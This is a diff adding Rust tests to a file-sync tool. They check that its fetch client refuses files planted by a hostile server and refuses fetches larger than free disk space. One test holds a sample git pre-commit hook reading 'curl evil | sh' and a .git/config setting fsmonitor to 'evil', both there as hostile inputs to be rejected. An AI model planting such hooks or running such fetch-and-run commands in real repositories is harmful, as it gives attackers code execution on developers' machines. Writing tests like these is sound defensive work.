@@ -240,3 +240,50 @@ fn a_hostile_server_cannot_write_outside_the_laptops_project() {
         .expect_err("refused");
     assert!(err.to_string().contains("not asked for"), "{err}");
 }
+
+/// A server's answer to a fetch, crafted: the offer, then the given files' frames.
+fn offer_stream(entries: Vec<Entry>, files: &[&[u8]]) -> Vec<u8> {
+    let mut s = Vec::new();
+    wire::write_magic(&mut s).expect("magic");
+    let entries = entries.into_iter().map(|e| Entry { sha256: None, ..e }).collect();
+    wire::write_message(&mut s, &Reply::Ok(FetchOffer { entries, missing: vec![], skipped: vec![] }))
+        .expect("offer");
+    for f in files {
+        wire::send_file(&mut s, Some(&mut &f[..])).expect("send").expect("read");
+    }
+    s
+}
+
+#[test]
+fn a_hostile_server_cannot_plant_git_hooks_or_files_others_may_write() {
+    use std::os::unix::fs::PermissionsExt;
+    let laptop = tempfile::tempdir().expect("tempdir");
+    let hook = Entry { mode: 0o777, ..entry(".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil | sh\n") };
+    let nested = entry("sub/.git/config", b"[core]\nfsmonitor = evil\n");
+    let result = Entry { mode: 0o777, ..entry("out/result.txt", b"42\n") };
+    // Only the plain result's bytes are asked for, so only they follow the offer.
+    let answer = offer_stream(vec![hook, nested, result], &[b"42\n"]);
+    let report = fetch(laptop.path(), &[PathBuf::from(".")], false, Vec::new(), answer.as_slice())
+        .expect("the rest is fetched");
+    assert_eq!(report.files_fetched, 1, "{report:?}");
+    assert!(!laptop.path().join(".git").exists() && !laptop.path().join("sub").exists());
+    let skipped: Vec<&str> = report.files_skipped.iter().map(|s| s.path.as_str()).collect();
+    assert_eq!(skipped, [".git/hooks/pre-commit", "sub/.git/config"]);
+    assert!(report.files_skipped[0].reason.contains(".git"), "{report:?}");
+    let got = laptop.path().join("out/result.txt");
+    assert_eq!(std::fs::read(&got).expect("read"), b"42\n");
+    assert_eq!(std::fs::metadata(&got).expect("meta").permissions().mode() & 0o777, 0o755);
+}
+
+#[test]
+fn a_fetch_larger_than_the_free_disk_is_refused_before_anything_is_written() {
+    let laptop = tempfile::tempdir().expect("tempdir");
+    let small = entry("work_dirs/log.txt", b"loss 0.1\n");
+    let huge = Entry { size: u64::MAX / 4, ..entry("work_dirs/epoch_1.pth", b"") };
+    let answer = offer_stream(vec![small, huge], &[]);
+    let err = fetch(laptop.path(), &[PathBuf::from("work_dirs")], false, Vec::new(), answer.as_slice())
+        .expect_err("no room");
+    assert!(matches!(err, SyncError::NoRoom { .. }), "{err}");
+    assert!(err.to_string().contains("free"), "{err}");
+    assert!(!laptop.path().join("work_dirs").exists(), "nothing written");
+}
